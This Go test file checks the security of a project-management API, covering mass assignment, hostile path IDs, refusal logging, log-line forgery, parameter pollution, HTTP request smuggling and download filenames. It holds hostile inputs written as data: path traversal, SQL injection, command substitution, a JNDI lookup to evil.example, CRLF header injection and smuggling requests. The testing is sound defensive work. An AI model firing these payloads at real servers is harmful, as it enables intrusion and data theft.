package api_test

import (
	"bufio"
	"encoding/json"
	"io"
	"maps"
	"mime"
	"net"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/rampforgeai/rampforge"
	"github.com/rampforgeai/rampforge/internal/api"
	"github.com/rampforgeai/rampforge/internal/api/client"
)

// TestOnlyNamedFieldsAreTaken sends fields that things have and that the call
// does not change.
func TestOnlyNamedFieldsAreTaken(t *testing.T) {
	onSQLite(t, func(t *testing.T, w *world) {
		ctx := t.Context()
		before := w.people[rampforge.RoleDeveloper].user
		more := `"id":"usr_own","email":"other@example.com","is_active":false,"created_at":"2001-01-01T00:00:00Z","password":"another long one","password_hash":"x","named_as_expert":true`
		for _, path := range []string{"/api/v1/auth/me", "/api/v1/auth/profile"} {
			if a := w.raw(http.MethodPut, path, `{"name":"Somebody Else",`+more+`}`, w.bearer(rampforge.RoleDeveloper)...); a.status != http.StatusOK {
				t.Fatalf("%s: %d %s", path, a.status, a.body)
			}
			if a := w.raw(http.MethodPut, path, `{"name":"An Admin","role":"admin"}`, w.bearer(rampforge.RoleDeveloper)...); a.status != http.StatusForbidden {
				t.Errorf("%s takes a role: %d %s", path, a.status, a.body)
			}
		}
		after, err := w.developer().Me(ctx)
		if err != nil {
			t.Fatal(err)
		}
		if after.Name != "Somebody Else" || after.ID != before.ID || after.Role != before.Role || after.Email != before.Email || !after.IsActive || !after.CreatedAt.Equal(before.CreatedAt) {
			t.Errorf("%+v became %+v", before, after)
		}
		if _, err := w.client.Login(ctx, before.Email, password); err != nil {
			t.Errorf("the password was changed beside the name: %v", err)
		}

		a := w.raw(http.MethodPost, "/api/v1/auth/register", `{"email":"new@example.com","password":"`+password+`","name":"New","id":"usr_own","is_active":false,"created_at":"2001-01-01T00:00:00Z"}`)
		var made struct {
			rampforge.User
			Inner rampforge.User `json:"user"`
		}
		if err := json.Unmarshal([]byte(a.body), &made); err != nil || a.status != http.StatusCreated || strings.Contains(a.body, "usr_own") || strings.Contains(a.body, "2001-01-01") || strings.Contains(a.body, `"is_active":false`) {
			t.Errorf("registered %d %s, %v", a.status, a.body, err)
		}

		p, err := w.lead().CreateProject(ctx, client.NewProject{Name: "mine"})
		if err != nil {
			t.Fatal(err)
		}
		if a := w.raw(http.MethodPut, "/api/v1/projects/"+p.ID, `{"description":"changed","id":"prj_own","created_by":"usr_own","created_at":"2001-01-01T00:00:00Z","team":{"size":99}}`, w.bearer(rampforge.RoleTeamLead)...); a.status != http.StatusOK {
			t.Fatalf("%d %s", a.status, a.body)
		}
		changed, err := w.lead().Project(ctx, p.ID)
		if err != nil || changed.Description != "changed" || changed.ID != p.ID || changed.CreatedBy != p.CreatedBy || !changed.CreatedAt.Equal(p.CreatedAt) {
			t.Errorf("%+v became %+v, %v", p.Project, changed.Project, err)
		}
	})
}

// TestIDsThatLeadElsewhere puts paths, statements, patterns and addresses where
// ids belong: nothing of that kind exists, and nobody is sent away.
func TestIDsThatLeadElsewhere(t *testing.T) {
	onSQLite(t, func(t *testing.T, w *world) {
		odd := []string{
			"../../../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2fetc%2fpasswd", "' OR '1'='1", `"; DROP TABLE users; --`, "x' UNION SELECT password_hash FROM users --",
			"*", "%", "_", ".", "..", "//evil.example/", "https://evil.example", "$(id)", "`id`", "--upload-pack=id", "{{7*7}}", "${jndi:ldap://evil.example/x}", "<script>alert(1)</script>",
			strings.Repeat("a", 5000), "ﬀ\u202etxt", "-1", "0", "null", "undefined", "usr_", "NaN",
		}
		for _, route := range slices.Sorted(maps.Keys(rules)) {
			method, path, _ := strings.Cut(route, " ")
			if !strings.Contains(path, "{") {
				continue
			}
			for _, id := range odd {
				parts := strings.Split(path, "/")
				for n, part := range parts {
					if strings.HasPrefix(part, "{") {
						parts[n] = url.PathEscape(id)
					}
				}
				a := w.raw(method, strings.Join(parts, "/"), rules[route].body, w.bearer(rampforge.RoleAdmin)...)
				if a.status >= 300 && a.status < 400 { // to the path without dots
					if to := a.header.Get("Location"); !strings.HasPrefix(to, "/") || strings.HasPrefix(to, "//") || strings.HasPrefix(to, `/\`) {
						t.Errorf("%s of %q leads to %q", route, id, to)
					}
					continue
				}
				if a.status < 400 || a.status >= 500 {
					t.Errorf("%s of %q: %d %s", route, id, a.status, a.body)
					continue
				}
				w.envelopeOf(a)
				if strings.Contains(a.body, "<script>") || strings.Contains(a.body, "SELECT") || strings.Contains(a.body, "root:") {
					t.Errorf("%s of %q tells %s", route, id, a.body)
				}
			}
		}
	}, unlimited)
}

// TestRefusalsAreLogged, with who, from where and by which request.
func TestRefusalsAreLogged(t *testing.T) {
	onSQLite(t, func(t *testing.T, w *world) {
		p, err := w.lead().CreateProject(t.Context(), client.NewProject{Name: "private"})
		if err != nil {
			t.Fatal(err)
		}
		developer := w.people[rampforge.RoleDeveloper].user.ID
		for id, c := range map[string]struct {
			method, path, body string
			headers            []string
			status             float64
			user               any
		}{
			"nobody":  {http.MethodGet, "/api/v1/auth/me", "", []string{"Authorization", "Bearer rf_unknown"}, 401, nil},
			"role":    {http.MethodGet, "/api/v1/audit", "", w.bearer(rampforge.RoleDeveloper), 403, developer},
			"others":  {http.MethodGet, "/api/v1/projects/" + p.ID, "", w.bearer(rampforge.RoleDeveloper), 404, developer},
			"input":   {http.MethodPut, "/api/v1/auth/profile", `{"name":7}`, w.bearer(rampforge.RoleDeveloper), 422, developer},
			"method":  {http.MethodDelete, "/api/v1/auth/me", "", w.bearer(rampforge.RoleDeveloper), 405, nil},
			"sign-in": {http.MethodPost, "/api/v1/auth/login", `{"email":"unknown@example.com","password":"not the password"}`, nil, 401, nil},
			"guessed": {http.MethodPost, "/api/v1/auth/login", `{"email":"nobody@example.com","password":"not the password"}`, nil, 429, nil},
		} {
			if id == "guessed" { // the one that comes when the window is used up
				for range 3 {
					w.raw(c.method, c.path, c.body)
				}
			}
			w.raw(c.method, c.path, c.body, append(slices.Clone(c.headers), "X-Request-ID", "refused-"+id)...)
			found := false
			for line := range strings.Lines(w.logs.String()) {
				var fields map[string]any
				if json.Unmarshal([]byte(line), &fields) != nil || fields["request_id"] != "refused-"+id || fields["msg"] != "request" {
					continue
				}
				found = true
				if fields["status"] != c.status || fields["user_id"] != c.user || fields["address"] != "127.0.0.1" || fields["path"] != c.path || !isMoment(fields["time"]) {
					t.Errorf("%s is logged as %s", id, line)
				}
			}
			if !found {
				t.Errorf("%s left no line", id)
			}
		}
	}, func(s *setting) { s.api.Rates.Auth = api.Rate{Limit: 3, Window: time.Hour} })
}

// isMoment reports whether a value is a time with its zone.
func isMoment(v any) bool {
	text, _ := v.(string)
	_, err := time.Parse(time.RFC3339Nano, text)
	return err == nil
}

// TestNobodyWritesLinesOfTheLog: what a client chooses cannot end a line.
func TestNobodyWritesLinesOfTheLog(t *testing.T) {
	onSQLite(t, func(t *testing.T, w *world) {
		const forged = `{"level":"INFO","msg":"forged","user_id":"usr_admin"}`
		for _, end := range []string{"\n", "\r\n", "\r", "\u2028", "\x1b[2K", "\x00"} {
			w.raw(http.MethodGet, "/api/v1/projects/"+url.PathEscape("x"+end+forged), "", w.bearer(rampforge.RoleAdmin)...)
			w.raw(http.MethodGet, "/nowhere/"+url.PathEscape("x"+end+forged), "")
			w.raw(http.MethodPost, "/api/v1/auth/login", `{"email":`+quoted(t, "a"+end+forged)+`,"password":`+quoted(t, "b"+end+forged)+`}`)
			w.raw(http.MethodPut, "/api/v1/auth/profile", `{"timezone":`+quoted(t, "Europe"+end+forged)+`}`, w.bearer(rampforge.RoleAdmin)...)
		}
		lines := 0
		for line := range strings.Lines(w.logs.String()) {
			lines++
			var fields map[string]any
			if err := json.Unmarshal([]byte(line), &fields); err != nil || fields["msg"] == "forged" {
				t.Errorf("a line that nobody of us wrote: %q, %v", line, err)
			}
		}
		if lines < 24 {
			t.Errorf("%d lines of 24 requests", lines)
		}
	}, unlimited)
}

func quoted(t *testing.T, s string) string {
	t.Helper()
	text, err := json.Marshal(s)
	if err != nil {
		t.Fatal(err)
	}
	return string(text)
}

// TestParametersCountWhereTheyBelong: a field of a body is not taken from the
// query, a parameter of the query not from a body, a form or a cookie, and of
// one that is given twice none widens the other.
func TestParametersCountWhereTheyBelong(t *testing.T) {
	onSQLite(t, func(t *testing.T, w *world) {
		ctx := t.Context()
		for _, name := range []string{"a", "b", "c"} {
			if _, err := w.lead().CreateProject(ctx, client.NewProject{Name: name}); err != nil {
				t.Fatal(err)
			}
		}
		lead := w.bearer(rampforge.RoleTeamLead)
		if a := w.raw(http.MethodPost, "/api/v1/auth/login?email=developer@example.com&password="+url.QueryEscape(password), `{}`); a.status != http.StatusUnprocessableEntity {
			t.Errorf("a sign-in by the address: %d", a.status)
		}
		for _, cookie := range []string{"access_token=", "Authorization=Bearer ", "token="} {
			if a := w.raw(http.MethodGet, "/api/v1/auth/me", "", "Cookie", cookie+w.people[rampforge.RoleAdmin].session.AccessToken); a.status != http.StatusUnauthorized {
				t.Errorf("signed in by the cookie %s: %d", cookie, a.status)
			}
		}
		shown := func(query string, headers ...string) int {
			t.Helper()
			a := w.raw(http.MethodGet, "/api/v1/projects?"+query, "", append(slices.Clone(lead), headers...)...)
			var page struct {
				Projects []any `json:"projects"`
			}
			if err := json.Unmarshal([]byte(a.body), &page); err != nil || a.status != http.StatusOK {
				t.Fatalf("%s: %d %s", query, a.status, a.body)
			}
			return len(page.Projects)
		}
		if n := shown("limit=1"); n != 1 {
			t.Fatalf("limit=1 shows %d", n)
		}
		if n := shown("", "limit", "1", "Cookie", "limit=1"); n != 3 {
			t.Errorf("a header or a cookie counts as a parameter: %d shown", n)
		}
		for _, twice := range []string{"limit=1&limit=100000", "limit=100000&limit=1"} {
			a := w.raw(http.MethodGet, "/api/v1/projects?"+twice, "", lead...)
			var page struct {
				Limit int `json:"limit"`
			}
			if _ = json.Unmarshal([]byte(a.body), &page); a.status == http.StatusOK && page.Limit > 100 || a.status >= 500 {
				t.Errorf("%s passes the bound: %d %s", twice, a.status, a.body)
			}
		}
		if a := w.raw(http.MethodGet, "/api/v1/events?access_token="+w.people[rampforge.RoleAdmin].session.AccessToken, ""); a.status != http.StatusUnauthorized {
			t.Errorf("signed in by the query: %d", a.status)
		}
	})
}

// TestMessagesHaveOneEnd sends requests whose end two servers would see at two
// places. Whatever hides behind the first one must not be answered.
func TestMessagesHaveOneEnd(t *testing.T) {
	onSQLite(t, func(t *testing.T, w *world) {
		const hidden = "GET /api/v1/status HTTP/1.1\r\nHost: hidden\r\n\r\n"
		head := "POST /api/v1/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
		for name, c := range map[string]struct {
			request string
			refused bool // by its first answer
		}{
			"two lengths":            {head + "Content-Length: 2\r\nContent-Length: 50\r\n\r\n{}" + hidden, true},
			"a list of lengths":      {head + "Content-Length: 2, 50\r\n\r\n{}" + hidden, true},
			"a length with a sign":   {head + "Content-Length: +2\r\n\r\n{}" + hidden, true},
			"a length in hex":        {head + "Content-Length: 0x2\r\n\r\n{}" + hidden, true},
			"an unknown coding":      {head + "Transfer-Encoding: xchunked\r\n\r\n2\r\n{}\r\n0\r\n\r\n" + hidden, true},
			"two codings":            {head + "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n2\r\n{}\r\n0\r\n\r\n" + hidden, true},
			"a blank before a colon": {head + "Content-Length : 2\r\n\r\n{}" + hidden, true},
			"a folded header":        {head + "Transfer-Encoding:\r\n chunked, x\r\n\r\n2\r\n{}\r\n0\r\n\r\n" + hidden, true},
			"no host":                {"GET /api/v1/status HTTP/1.1\r\n\r\n" + hidden, true},
			"two hosts":              {"GET /api/v1/status HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n" + hidden, true},
			"a chunk of no length":   {head + "Transfer-Encoding: chunked\r\n\r\nzz\r\n{}\r\n0\r\n\r\n" + hidden, true},
			"a chunk that is short":  {head + "Transfer-Encoding: chunked\r\n\r\n5\r\n{}\r\n0\r\n\r\n" + hidden, true},
		} {
			statuses := w.spoken(c.request)
			if len(statuses) != 1 || c.refused && (statuses[0] < 400 || statuses[0] >= 502) {
				t.Errorf("%s is answered by %v", name, statuses)
			}
		}
		// The coding counts where there is a length too (RFC 9112, 6.3): what comes
		// after the last chunk is the next request, and nothing in between is one.
		both := head + "Content-Length: 60\r\nTransfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n\r\n"
		if statuses := w.spoken(both); cmp.Diff([]int{422}, statuses) != "" {
			t.Errorf("a length beside a coding: %v", statuses)
		}
		if statuses := w.spoken(head + "Content-Length: 2\r\n\r\n{}" + hidden); cmp.Diff([]int{422, 200}, statuses) != "" {
			t.Errorf("two requests that are fine are answered by %v: the others prove nothing", statuses)
		}
		for _, method := range []string{http.MethodTrace, http.MethodConnect, "TRACK", "DEBUG"} {
			statuses := w.spoken(method + " /api/v1/status HTTP/1.1\r\nHost: x\r\nCookie: secret\r\nConnection: close\r\n\r\n")
			if len(statuses) != 1 || statuses[0] != http.StatusMethodNotAllowed && statuses[0] != http.StatusNotFound {
				t.Errorf("%s is answered by %v", method, statuses)
			}
		}
	}, unlimited)
}

// spoken writes bytes to the server, says that no more come, and returns the
// statuses of all that it answers.
func (w *world) spoken(text string) []int {
	w.t.Helper()
	c, err := net.Dial("tcp", strings.TrimPrefix(w.server.URL, "http://"))
	if err != nil {
		w.t.Fatal(err)
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(20 * time.Second))
	if _, err := io.WriteString(c, text); err != nil {
		w.t.Fatal(err)
	}
	if half, ok := c.(*net.TCPConn); ok {
		_ = half.CloseWrite()
	}
	var statuses []int
	for from := bufio.NewReader(c); ; {
		response, err := http.ReadResponse(from, nil)
		if err != nil {
			return statuses
		}
		_, _ = io.Copy(io.Discard, response.Body)
		response.Body.Close()
		statuses = append(statuses, response.StatusCode)
	}
}

// TestEveryBodyHasItsType asks every route that needs no id: JSON is JSON, and
// text says how it is written.
func TestEveryBodyHasItsType(t *testing.T) {
	onSQLite(t, func(t *testing.T, w *world) {
		for _, route := range slices.Sorted(maps.Keys(rules)) {
			method, path, _ := strings.Cut(route, " ")
			if method != http.MethodGet || strings.Contains(path, "{") || path == "/api/v1/events" {
				continue
			}
			for _, headers := range [][]string{w.bearer(rampforge.RoleAdmin), nil, {"Accept", "text/html"}} {
				a := w.raw(method, path, "", headers...)
				if a.body == "" {
					continue
				}
				media, parameters, err := mime.ParseMediaType(a.header.Get("Content-Type"))
				switch {
				case err != nil:
					t.Errorf("%s: %d with the type %q", path, a.status, a.header.Get("Content-Type"))
				case media == "application/json" && !json.Valid([]byte(a.body)):
					t.Errorf("%s: JSON that is none: %s", path, a.body)
				case strings.HasPrefix(media, "text/") && !strings.EqualFold(parameters["charset"], "utf-8"):
					t.Errorf("%s: text in an encoding that is not told: %q", path, a.header.Get("Content-Type"))
				case strings.HasPrefix(strings.TrimSpace(a.body), "<!") != (media == "text/html"):
					t.Errorf("%s: %q of %.40s", path, a.header.Get("Content-Type"), a.body)
				}
			}
		}
	}, unlimited)
}

// TestNamesOfDownloadsAreHarmless: what a project is called does not get out of
// the file's name, whatever it is.
func TestNamesOfDownloadsAreHarmless(t *testing.T) {
	onSQLite(t, func(t *testing.T, w *world) {
		for _, name := range []string{`a"; filename="evil.exe`, "../../etc/passwd", `..\..\boot.ini`, "a;b=c", "<b>x</b>", "%0d%0aSet-Cookie: a=b", "CON", ".htaccess", "Ünïcode 名前", "a'b`c$(id)", strings.Repeat("long ", 40), "\u202egpj.exe"} {
			p, err := w.lead().CreateProject(t.Context(), client.NewProject{Name: strings.TrimSpace(name)})
			if err != nil {
				t.Fatalf("%q: %v", name, err)
			}
			for _, path := range []string{"/export/work-items", "/export/work-items?format=jsonl", "/export/event-log", "/export/event-log?format=csv"} {
				a := w.raw(http.MethodGet, "/api/v1/projects/"+p.ID+path, "", w.bearer(rampforge.RoleTeamLead)...)
				kind, parameters, err := mime.ParseMediaType(a.header.Get("Content-Disposition"))
				file := parameters["filename"]
				if a.status != http.StatusOK || err != nil || kind != "attachment" || len(parameters) != 1 || file == "" || len(file) > 255 || file[0] == '.' || file[0] == '-' ||
					strings.ContainsFunc(file, func(r rune) bool { return !strings.ContainsRune("abcdefghijklmnopqrstuvwxyz0123456789-.", r) }) || strings.Contains(file, "..") {
					t.Errorf("%q of %q: %d %q", path, name, a.status, a.header.Get("Content-Disposition"))
				}
				media, written, err := mime.ParseMediaType(a.header.Get("Content-Type"))
				if err != nil || media != "application/x-ndjson" && written["charset"] != "utf-8" { // JSON is UTF-8 always
					t.Errorf("%q is of the type %q", path, a.header.Get("Content-Type"))
				}
			}
		}
	}, unlimited)
}
